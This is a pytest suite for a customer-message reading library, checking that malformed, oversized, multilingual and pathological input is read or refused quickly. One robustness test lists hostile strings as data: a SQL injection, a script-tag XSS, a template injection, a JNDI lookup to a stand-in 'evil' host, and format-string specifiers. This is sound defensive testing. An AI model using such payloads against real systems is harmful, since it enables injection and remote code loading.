"""Bad input never produces a traceback: each case gives a Reading or a clear PoiseError, fast (issue 2)."""
from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from poise.errors import EmptyMessage, InputError, PoiseError
from poise.reading.normalize import MAX_CHARS, decode_bytes
from poise.reading.pipeline import Reader
from poise.reading.reading import Reading

FAST_SECONDS = 1.0


@pytest.fixture(scope="module")
def reader() -> Reader:
    """The shipped Reader, loaded once (loading is not what these tests time)."""
    loaded = Reader()
    loaded.read("warm up")
    return loaded


def timed_read(reader: Reader, text: str) -> tuple[Reading, float]:
    start = time.perf_counter()
    reading = reader.read(text)
    return reading, time.perf_counter() - start


def assert_complete(reading: Reading) -> None:
    """A Reading whose JSON has every contract field and survives a JSON round trip."""
    d = reading.to_dict()
    assert set(d) >= {"sentiment", "complaint", "emotions", "abuse", "intent", "stakes", "claims", "summary",
                      "language", "warnings"}
    assert json.loads(json.dumps(d)) == d
    assert all(d["summary"].values())


@pytest.mark.parametrize(("text", "message"), [
    ("", "the message is empty"),
    ("   \n\t  ", "the message is empty"),
])
def test_empty_or_whitespace_raises_a_clear_error(reader: Reader, text: str, message: str) -> None:
    with pytest.raises(EmptyMessage) as err:
        reader.read(text)
    assert (err.value.code, err.value.message) == ("empty_message", message)
    assert err.value.hint


def test_one_megabyte_of_text_is_read_cut_and_flagged(reader: Reader) -> None:
    text = ("my order never arrived and nobody answers my emails. " * 20_000)[:1_000_000]
    reading, seconds = timed_read(reader, text)
    assert_complete(reading)
    assert (len(reading.text), reading.warnings) == (MAX_CHARS, (f"truncated_to_{MAX_CHARS}_chars",))
    assert "not_received" in {c.kind for c in reading.claims}
    assert seconds < FAST_SECONDS


def test_invalid_utf8_file_is_decoded_then_read(reader: Reader, tmp_path: Path) -> None:
    path = tmp_path / "message.txt"
    path.write_bytes(b"you charged me twice \xff\xfe for order #881 \xc3(")
    text, warnings = decode_bytes(path.read_bytes())
    reading, seconds = timed_read(reader, text)
    assert_complete(reading)
    assert warnings == ["invalid_utf8_replaced"]
    assert [c.kind for c in reading.claims] == ["wrong_charge"]
    assert reading.extra["order_refs"] == ["881"]
    assert seconds < FAST_SECONDS


def test_html_email_body_is_read_as_its_text(reader: Reader) -> None:
    html = ("<html><head><style>p {color: red}</style></head><body><p>Hi,</p><p>My parcel&nbsp;never arrived "
            "&amp; nobody told me why.</p><div class=\"gmail_quote\">On Mon, 3 Jun 2024 Shop wrote:<br>"
            "<blockquote>Sorry!</blockquote></div></body></html>")
    reading, seconds = timed_read(reader, html)
    assert_complete(reading)
    assert reading.text == "Hi,\n\nMy parcel never arrived & nobody told me why."
    assert reading.warnings == ("html_converted", "quoted_reply_removed")
    assert [c.kind for c in reading.claims] == ["not_received", "not_informed"]
    assert seconds < FAST_SECONDS


@pytest.mark.parametrize("text", [
    "\U0001F621\U0001F621\U0001F621", "\U0001F44D", "\U0001F622\U0001F494\U0001F62D",
])
def test_emoji_only_is_read_as_english_with_a_summary(reader: Reader, text: str) -> None:
    reading, seconds = timed_read(reader, text)
    assert_complete(reading)
    assert (reading.language, reading.claims, reading.stakes) == ("en", (), ())
    assert seconds < FAST_SECONDS


@pytest.mark.parametrize(("text", "code"), [
    ("Mi pedido nunca llegó y nadie me responde. ¡Quiero mi dinero!", "es"),
    ("我的订单还没有到，客服也不回复。", "zh"),
])
def test_another_language_is_flagged_and_still_read(reader: Reader, text: str, code: str) -> None:
    reading, seconds = timed_read(reader, text)
    assert_complete(reading)
    assert (reading.language, "non_english" in reading.warnings) == (code, True)
    assert seconds < FAST_SECONDS


@pytest.mark.parametrize("text", [
    "a" * 100_000,
    "aaaa " * 100_000,
    "x" * 5_000 + "y" * 5_000,
    "never " * 50_000,
    "charged twice " * 20_000,
    "!" * 100_000,
    "'; DROP TABLE customers; --",
    "<script>alert('x')</script> refund me",
    "{{7*7}} ${jndi:ldap://evil/a} %s%s%s%n",
    "\u202eoverride\u202c and \u0000 nulls \u0007 bells",
    "(" * 50_000 + ")" * 50_000,
])
def test_hostile_input_is_read_or_refused_quickly(reader: Reader, text: str) -> None:
    start = time.perf_counter()
    try:
        assert_complete(reader.read(text))
    except PoiseError as err:  # a clear, deliberate error is fine; anything else fails the test
        assert isinstance(err, InputError) and err.hint
    assert time.perf_counter() - start < FAST_SECONDS


def test_read_many_returns_errors_in_place_and_drops_nothing(reader: Reader) -> None:
    texts = ["it never arrived", "", "<html><body><style>x{}</style></body></html>", "thanks!", "\u200b"]
    results = list(reader.read_many(texts, errors="return"))
    assert [type(r).__name__ for r in results] == ["Reading", "EmptyMessage", "EmptyMessage", "Reading",
                                                   "EmptyMessage"]
